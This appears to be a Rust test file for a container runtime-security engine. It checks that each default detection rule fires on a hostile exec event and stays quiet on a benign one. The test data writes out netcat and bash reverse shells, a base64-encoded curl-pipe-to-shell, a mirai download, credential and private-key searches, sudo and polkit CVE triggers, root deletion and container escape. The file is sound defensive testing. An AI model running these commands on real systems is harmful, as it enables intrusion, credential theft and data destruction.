use super::*;

fn ev(path: &str, argv: &[&str]) -> EventSpec {
    EventSpec {
        path: path.into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        ..EventSpec::default()
    }
}

fn fired(rs: &Ruleset, e: EventSpec) -> Vec<String> {
    let mut s = StaticSubject::new(e).unwrap();
    rs.evaluate(&mut s, &[])
        .into_iter()
        .map(|h| rs.rules()[h.rule].id.clone())
        .collect()
}

fn parent(name: &str) -> Vec<ProcRef> {
    vec![ProcRef {
        pid: 1,
        binary: format!("/usr/sbin/{name}"),
        name: name.into(),
    }]
}

fn inet() -> Option<FdInfo> {
    Some(FdInfo {
        kind: FdKind::Inet,
        local: Some("10.0.0.2:41000".parse().unwrap()),
        peer: Some("127.0.0.1:4444".parse().unwrap()),
    })
}

/// Every default rule: (id, a positive exec, a benign look-alike).
fn table() -> Vec<(&'static str, EventSpec, EventSpec)> {
    let b64 = |s: &[u8]| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(s)
    };
    let elf = b64(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0");
    let py = b64(b"import socket,subprocess,os;s=socket.socket()");
    let shell = b64(b"#!/bin/sh\ncurl -s http://x.example/a | sh\n");
    let mut rev = ev("/bin/bash", &["bash", "-i"]);
    rev.stdin = inet();
    let mut rev_neg = ev("/bin/bash", &["bash", "-i"]);
    rev_neg.stdin = Some(FdInfo {
        kind: FdKind::Tty,
        ..FdInfo::default()
    });
    let mut child = ev("/bin/sh", &["sh", "-c", "id"]);
    child.ancestors = parent("nginx");
    let mut child_neg = ev("/bin/sh", &["sh", "-c", "id"]);
    child_neg.ancestors = parent("bash");
    let mut socat = ev("/bin/sh", &["sh"]);
    socat.ancestors = parent("socat");
    let mut cups = ev("/bin/sh", &["sh", "-c", "touch /tmp/pwn"]);
    cups.ancestors = parent("foomatic-rip");
    let mut cups_neg = cups.clone();
    cups_neg.ancestors = parent("cupsd");
    let mut proxy = ev("/usr/bin/curl", &["curl", "http://example.com"]);
    proxy.env = vec!["HTTPS_PROXY=http://evil.example:8080".into()];
    let mut proxy_neg = proxy.clone();
    proxy_neg.env = vec!["https_proxy=http://proxy.corp:3128".into()];
    let mut pwnkit = ev("/usr/bin/pkexec", &[]);
    pwnkit.env = vec!["pwnkit".into(), "PATH=GCONV_PATH=.".into()];
    vec![
        ("SCRUN-REVERSE-SHELL", rev, rev_neg),
        ("SCRUN-UNEXPECTED-CHILD-SHELL", child, child_neg),
        (
            "SCRUN-SOCAT-REVERSE-SHELL",
            socat,
            ev("/usr/bin/socat", &["socat", "-", "TCP:x:1"]),
        ),
        (
            "SCRUN-NETCAT-RCE",
            ev("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
            ev("/usr/bin/nc", &["nc", "-z", "db", "5432"]),
        ),
        (
            "SCRUN-BASE64-ELF",
            ev(
                "/bin/sh",
                &["sh", "-c", &format!("echo {elf} | base64 -d > /tmp/x")],
            ),
            ev(
                "/bin/sh",
                &[
                    "sh",
                    "-c",
                    "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK | base64 -d",
                ],
            ),
        ),
        (
            "SCRUN-BASE64-PYTHON",
            ev(
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "-c",
                    &format!("import base64;exec(base64.b64decode('{py}'))"),
                ],
            ),
            ev(
                "/usr/bin/python3.11",
                &["python3", "-c", "print('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK')"],
            ),
        ),
        (
            "SCRUN-BASE64-SHELL",
            ev(
                "/bin/bash",
                &["bash", "-c", &format!("echo {shell} | base64 -d | sh")],
            ),
            ev(
                "/bin/bash",
                &[
                    "bash",
                    "-c",
                    "echo dGhpcyBpcyBqdXN0IHRleHQgZm9yIGEgdGVzdA== | base64 -d",
                ],
            ),
        ),
        (
            "SCRUN-COMPILER",
            ev(
                "/usr/bin/x86_64-linux-gnu-gcc-12",
                &["x86_64-linux-gnu-gcc-12", "x.c"],
            ),
            ev("/usr/bin/make", &["make"]),
        ),
        (
            "SCRUN-FIND-GCP-CREDENTIALS",
            ev(
                "/usr/bin/find",
                &["find", "/", "-name", "application_default_credentials.json"],
            ),
            ev("/usr/bin/find", &["find", "/app", "-name", "*.py"]),
        ),
        (
            "SCRUN-GPG-KEY-RECON",
            ev("/usr/bin/find", &["find", "/", "-path", "*/.gnupg/*"]),
            ev("/usr/bin/gpg", &["gpg", "--verify", "x.sig"]),
        ),
        (
            "SCRUN-SEARCH-PRIVATE-KEYS",
            ev("/bin/grep", &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"]),
            ev("/bin/grep", &["grep", "-r", "TODO", "/src"]),
        ),
        (
            "SCRUN-SUDO-CVE-2019-14287",
            ev("/usr/bin/sudo", &["sudo", "-u#-1", "/bin/bash"]),
            ev("/usr/bin/sudo", &["sudo", "-u", "www-data", "id"]),
        ),
        (
            "SCRUN-SUDO-CVE-2021-3156",
            ev("/usr/bin/sudo", &["sudoedit", "-s", "AAAA\\"]),
            ev("/usr/bin/sudo", &["sudoedit", "/etc/hosts"]),
        ),
        (
            "SCRUN-POLKIT-CVE-2021-4034",
            pwnkit,
            ev("/usr/bin/pkexec", &["pkexec", "id"]),
        ),
        ("SCRUN-DISALLOWED-PROXY-ENV", proxy, proxy_neg),
        (
            "SCRUN-REMOTE-FILE-COPY",
            ev("/usr/bin/rsync", &["rsync", "-a", "/data", "x:/y"]),
            ev("/bin/cp", &["cp", "-a", "/data", "/y"]),
        ),
        (
            "SCRUN-REMOVE-BULK-DATA",
            ev("/usr/bin/shred", &["shred", "-u", "/data/db"]),
            ev(
                "/bin/dd",
                &["dd", "if=/dev/zero", "of=/tmp/f", "bs=1M", "count=1"],
            ),
        ),
        (
            "SCRUN-MALICIOUS-CMDLINES",
            ev("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"]),
            ev("/bin/rm", &["rm", "-rf", "/tmp/build"]),
        ),
        (
            "SCRUN-OPENSSL-SHARED-OBJECT",
            ev(
                "/usr/bin/openssl",
                &["openssl", "req", "-engine", "/tmp/evil.so", "-new"],
            ),
            ev(
                "/usr/bin/openssl",
                &["openssl", "req", "-new", "-key", "k.pem"],
            ),
        ),
        ("SCRUN-CUPS-RCE", cups, cups_neg),
        (
            "SCRUN-INGRESS-NIGHTMARE",
            ev("/usr/bin/nginx", &["nginx", "-t", "-c", "/proc/42/fd/7"]),
            ev(
                "/usr/bin/nginx",
                &["nginx", "-t", "-c", "/etc/nginx/nginx.conf"],
            ),
        ),
        (
            "SCRUN-K8S-ATTACK-TOOL",
            ev("/usr/local/bin/peirates", &["peirates"]),
            ev("/usr/local/bin/kubectl", &["kubectl", "get", "pods"]),
        ),
        (
            "SCRUN-LOCAL-RECON-TOOL",
            ev("/tmp/linpeas.sh", &["/tmp/linpeas.sh"]),
            ev("/usr/bin/ps", &["ps", "aux"]),
        ),
        (
            "SCRUN-STEGANOGRAPHY-TOOL",
            ev(
                "/usr/bin/steghide",
                &["steghide", "extract", "-sf", "a.jpg"],
            ),
            ev("/usr/bin/convert", &["convert", "a.jpg", "b.png"]),
        ),
        (
            "SCRUN-CONTAINER-ESCAPE",
            ev(
                "/usr/bin/nsenter",
                &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
            ),
            ev(
                "/usr/bin/nsenter",
                &["nsenter", "--net=/run/netns/x", "ip", "a"],
            ),
        ),
    ]
}

fn ruleset() -> Ruleset {
    Ruleset::build(&RulesetSpec {
        default: true,
        allowed_proxies: vec!["http://proxy.corp:3128".into()],
        ..RulesetSpec::default()
    })
    .unwrap()
}

#[test]
fn every_default_rule_fires_on_its_positive_and_not_on_its_negative() {
    let rs = ruleset();
    let t = table();
    for (id, pos, neg) in t.clone() {
        let got = fired(&rs, pos.clone());
        assert!(
            got.contains(&id.to_string()),
            "{id} did not fire on {pos:?}: {got:?}"
        );
        let got = fired(&rs, neg.clone());
        assert!(got.is_empty(), "{id}'s negative {neg:?} fired {got:?}");
    }
    // Every default rule but the URL one (needs a feed; tested below) has a row.
    let covered: HashSet<&str> = t.iter().map(|r| r.0).collect();
    for r in rs.rules() {
        assert!(
            covered.contains(r.id.as_str()) || r.id == "SCRUN-MALICIOUS-URL",
            "{} has no test row",
            r.id
        );
    }
}

#[test]
fn default_rules_carry_catalogue_categories_and_actions() {
    let rs = Ruleset::default_rules();
    assert_eq!(rs.rules().len(), 26);
    let blocking: Vec<&str> = rs
        .rules()
        .iter()
        .filter(|r| r.action == RuleAction::Block)
        .map(|r| r.id.as_str())
        .collect();
    assert_eq!(
        blocking,
        [
            "SCRUN-REVERSE-SHELL",
            "SCRUN-SUDO-CVE-2019-14287",
            "SCRUN-SUDO-CVE-2021-3156",
            "SCRUN-POLKIT-CVE-2021-4034"
        ]
    );
    let cats: HashSet<&str> = rs.rules().iter().map(|r| r.category.as_str()).collect();
    for c in catalogue::CLOUD_RUN {
        assert!(cats.contains(c.display), "no rule raises {}", c.display);
    }
    for r in rs.rules() {
        let c = catalogue::lookup(&r.category).unwrap();
        assert_eq!(r.api_name, c.cloud_run_api_name());
        assert_eq!(r.severity, c.severity, "{}", r.id);
        assert_ne!(r.mitre.primary_tactic, Tactic::Unspecified);
    }
}

#[test]
fn busybox_applets_match_by_invoked_name() {
    let rs = ruleset();
    // `busybox nc -e sh` and argv[0] "nc" with the busybox path both count as nc.
    assert_eq!(
        fired(
            &rs,
            ev(
                "/bin/busybox",
                &["busybox", "nc", "-e", "/bin/sh", "h", "1"]
            )
        ),
        ["SCRUN-NETCAT-RCE"]
    );
    let mut e = ev("/bin/busybox", &["nc", "-e", "/bin/sh", "h", "1"]);
    e.requested = Some("/usr/bin/nc".into());
    assert_eq!(fired(&rs, e), ["SCRUN-NETCAT-RCE"]);
    // A non-multicall binary's argv[0] is not a name: `exec -a nc /bin/true -e`.
    assert!(fired(&rs, ev("/bin/true", &["nc", "-e", "x"])).is_empty());
}

#[test]
fn reverse_shell_captures_the_socket() {
    let rs = ruleset();
    let mut e = ev("/bin/sh", &["sh"]);
    e.stdout = inet();
    let mut s = StaticSubject::new(e).unwrap();
    let hits = rs.evaluate(&mut s, &[]);
    assert_eq!(hits.len(), 1);
    assert_eq!(
        hits[0].captures.socket,
        Some((
            1,
            "10.0.0.2:41000".parse().ok(),
            "127.0.0.1:4444".parse().ok()
        ))
    );
}

#[test]
fn url_feed_rule_needs_a_feed() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("urls.txt");
    std::fs::write(&feed, "http://198.51.100.9/bins/mirai.x86\n").unwrap();
    let e = ev(
        "/usr/bin/wget",
        &[
            "wget",
            "-q",
            "http://198.51.100.9/bins/mirai.x86",
            "-O",
            "/tmp/m",
        ],
    );
    assert!(fired(&Ruleset::default_rules(), e.clone()).is_empty());
    let rs = Ruleset::build(&RulesetSpec {
        default: true,
        url_feeds: vec![feed],
        ..RulesetSpec::default()
    })
    .unwrap();
    let mut s = StaticSubject::new(e).unwrap();
    let hits = rs.evaluate(&mut s, &[]);
    assert_eq!(hits.len(), 1);
    assert_eq!(rs.rules()[hits[0].rule].id, "SCRUN-MALICIOUS-URL");
    assert_eq!(
        hits[0].captures.urls,
        ["http://198.51.100.9/bins/mirai.x86"]
    );
    assert!(
        fired(
            &rs,
            ev("/usr/bin/wget", &["wget", "http://198.51.100.9/ok"])
        )
        .is_empty()
    );
}

#[test]
fn exceptions_overrides_and_labels() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("local.toml");
    std::fs::write(
        &f,
        r#"
[[rule]]
id = "SCRUN-COMPILER"
category = "Defense Evasion: Launch Code Compiler Tool In Container"
tactic = "DEFENSE_EVASION"
techniques = ["COMPILE_AFTER_DELIVERY"]
description = "compiler outside build images"
when = { name = ["gcc", "cc"] }
exceptions = [{ image = "*/builder:*" }, { label = "role=build" }, { parent_name = ["make"] }]

[[rule]]
id = "LOCAL-CURL-PIPE"
category = "Execution: Curl Piped To Shell"
api_name = "LOCAL_CURL_PIPE"
severity = "high"
tactic = "EXECUTION"
description = "curl | sh"
action = "block"
[rule.when]
name = ["sh", "bash"]
args = ['re:curl\s[^|]*\|\s*(ba)?sh']
"#,
    )
    .unwrap();
    let mut actions = BTreeMap::new();
    actions.insert("SCRUN-NETCAT-RCE".to_owned(), RuleAction::Off);
    let rs = Ruleset::build(&RulesetSpec {
        default: true,
        files: vec![f.clone()],
        actions,
        ..RulesetSpec::default()
    })
    .unwrap();
    assert_eq!(rs.rules().len(), 27);
    let comp = rs
        .rules()
        .iter()
        .find(|r| r.id == "SCRUN-COMPILER")
        .unwrap();
    assert_eq!(comp.source, f.display().to_string());
    let mut e = ev("/usr/bin/gcc", &["gcc", "x.c"]);
    assert_eq!(fired(&rs, e.clone()), ["SCRUN-COMPILER"]);
    e.image = "registry.example/builder:1".into();
    assert!(fired(&rs, e.clone()).is_empty());
    e.image = "app:1".into();
    e.labels.insert("role".into(), "build".into());
    assert!(fired(&rs, e.clone()).is_empty());
    e.labels.clear();
    e.ancestors = parent("make");
    assert!(fired(&rs, e).is_empty());
    // A custom category.
    let custom = rs
        .rules()
        .iter()
        .find(|r| r.id == "LOCAL-CURL-PIPE")
        .unwrap();
    assert_eq!(
        (custom.category.as_str(), custom.severity, custom.action),
        (
            "Execution: Curl Piped To Shell",
            Severity::High,
            RuleAction::Block
        )
    );
    assert_eq!(
        fired(&rs, ev("/bin/sh", &["sh", "-c", "curl -s http://x | sh"])),
        ["LOCAL-CURL-PIPE"]
    );
    // The config turned netcat off.
    assert!(fired(&rs, ev("/bin/nc", &["nc", "-e", "/bin/sh", "h", "1"])).is_empty());
    // Per-container labels.
    let mut labels = BTreeMap::new();
    labels.insert("scrun.rule.SCRUN-COMPILER".to_owned(), "block".to_owned());
    labels.insert(
        "scrun.rule.SCRUN-NETCAT-RCE".to_owned(),
        "report".to_owned(),
    );
    let acts = rs.actions_for(&labels).unwrap();
    let mut s = StaticSubject::new(ev("/bin/nc", &["nc", "-e", "/bin/sh", "h", "1"])).unwrap();
    let hits = rs.evaluate(&mut s, &acts);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].action, RuleAction::Report);
    let mut s = StaticSubject::new(ev("/usr/bin/gcc", &["gcc"])).unwrap();
    assert_eq!(rs.evaluate(&mut s, &acts)[0].action, RuleAction::Block);
    labels.insert("scrun.rule.X".into(), "maybe".into());
    assert!(rs.actions_for(&labels).is_err());
}

fn err(text: &str) -> RuleError {
    parse_rules(text, "/etc/scrun/rules.d/bad.toml").unwrap_err()
}

#[test]
fn malformed_files_name_file_line_and_rule() {
    let head = "[[rule]]\nid = \"A-1\"\ncategory = \"Reverse Shell\"\ntactic = \"EXECUTION\"\ndescription = \"d\"\n";
    // A bad regex: the rule's line and id.
    let e = err(&format!(
        "# comment\n{head}when = {{ arg = [\"re:(unclosed\"] }}\n"
    ));
    assert_eq!((e.line, e.rule.as_deref()), (3, Some("A-1")));
    assert!(e.message.contains("when.arg"), "{e}");
    let text = e.to_string();
    assert!(
        text.contains("/etc/scrun/rules.d/bad.toml")
            && text.contains("line 3")
            && text.contains("A-1"),
        "{text}"
    );
    // An unknown key inside a rule: serde's line, the rule found around it.
    let e = err(&format!("{head}[rule.when]\nnmae = [\"sh\"]\n"));
    assert_eq!((e.line, e.rule.as_deref()), (7, Some("A-1")), "{e}");
    // TOML syntax.
    let e = err("[[rule]]\nid = \"B\"\ncategory = \n");
    assert_eq!(e.line, 3);
    // Unknown category without api_name, unknown technique, bad action, bad glob, bad hash.
    for bad in [
        head.replace("Reverse Shell", "Nope") + "when = { name = [\"x\"] }\n",
        head.to_owned() + "techniques = [\"HACKING\"]\nwhen = { name = [\"x\"] }\n",
        head.to_owned() + "when = { name = [\"[x\"] }\n",
        head.to_owned() + "when = { sha256 = [\"abc\"] }\n",
        head.to_owned() + "when = { provenance = [\"upper\"] }\n",
    ] {
        let e = err(&bad);
        assert_eq!((e.line, e.rule.as_deref()), (2, Some("A-1")), "{bad}: {e}");
    }
    let e = err(&(head.to_owned() + "action = \"kill\"\nwhen = { name = [\"x\"] }\n"));
    assert_eq!(e.rule.as_deref(), Some("A-1"), "{e}");
    // Duplicate ids in one file.
    let dup = format!("{head}when = {{ name = [\"x\"] }}\n{head}when = {{ name = [\"y\"] }}\n");
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("dup.toml");
    std::fs::write(&p, dup).unwrap();
    let e = Ruleset::build(&RulesetSpec {
        files: vec![p],
        ..RulesetSpec::default()
    })
    .unwrap_err();
    assert_eq!((e.line, e.rule.as_deref()), (8, Some("A-1")), "{e}");
    // An override for a rule that does not exist.
    let mut actions = BTreeMap::new();
    actions.insert("NOPE".to_owned(), RuleAction::Off);
    assert!(
        Ruleset::build(&RulesetSpec {
            default: true,
            actions,
            ..RulesetSpec::default()
        })
        .is_err()
    );
}

/// Counts what the subject was asked for, to check the lazy reads.
struct Counting {
    inner: StaticSubject,
    argv: usize,
    env: usize,
    ancestors: usize,
    stdio: usize,
}

impl Subject for Counting {
    fn requested(&self) -> &str {
        self.inner.requested()
    }
    fn path(&self) -> &str {
        self.inner.path()
    }
    fn sha256(&self) -> Option<[u8; 32]> {
        self.inner.sha256()
    }
    fn provenance(&self) -> &str {
        self.inner.provenance()
    }
    fn container(&self) -> &ContainerIdentity {
        self.inner.container()
    }
    fn argv(&mut self) -> &[String] {
        self.argv += 1;
        self.inner.argv()
    }
    fn env(&mut self) -> &[(String, String)] {
        self.env += 1;
        self.inner.env()
    }
    fn parent(&mut self) -> Option<&ProcRef> {
        self.ancestors += 1;
        self.inner.parent()
    }
    fn ancestors(&mut self) -> &[ProcRef] {
        self.ancestors += 1;
        self.inner.ancestors()
    }
    fn stdio(&mut self, fd: u8) -> FdInfo {
        self.stdio += 1;
        self.inner.stdio(fd)
    }
}

#[test]
fn uninteresting_execs_read_nothing() {
    let rs = ruleset();
    let mut c = Counting {
        inner: StaticSubject::new(ev("/usr/bin/id", &["id", "-u"])).unwrap(),
        argv: 0,
        env: 0,
        ancestors: 0,
        stdio: 0,
    };
    assert!(rs.evaluate(&mut c, &[]).is_empty());
    assert_eq!((c.argv, c.env, c.ancestors, c.stdio), (0, 0, 0, 0));
    // A busybox applet link (the exec storm's /bin/true) reads nothing either.
    let mut e = ev("/bin/busybox", &["true"]);
    e.requested = Some("/bin/true".into());
    let mut c = Counting {
        inner: StaticSubject::new(e).unwrap(),
        argv: 0,
        env: 0,
        ancestors: 0,
        stdio: 0,
    };
    assert!(rs.evaluate(&mut c, &[]).is_empty());
    assert_eq!((c.argv, c.env, c.ancestors, c.stdio), (0, 0, 0, 0));
    // A shell reads its fds and parent, not its environment.
    let mut c = Counting {
        inner: StaticSubject::new(ev("/bin/sh", &["sh", "-c", "ls"])).unwrap(),
        argv: 0,
        env: 0,
        ancestors: 0,
        stdio: 0,
    };
    assert!(rs.evaluate(&mut c, &[]).is_empty());
    assert_eq!(c.env, 0);
    assert!(c.ancestors > 0 && c.stdio > 0);
}

#[test]
fn hostile_arguments_stay_linear() {
    let rs = ruleset();
    let long = "a".repeat(100_000) + "!";
    let t = std::time::Instant::now();
    let _ = fired(&rs, ev("/bin/sh", &["sh", "-c", &long]));
    let _ = fired(&rs, ev("/usr/bin/find", &["find", &long, &long]));
    assert!(
        t.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        t.elapsed()
    );
}

#[test]
fn every_default_pattern_compiles() {
    let rs = Ruleset::default_rules();
    rs.warm().unwrap();
}
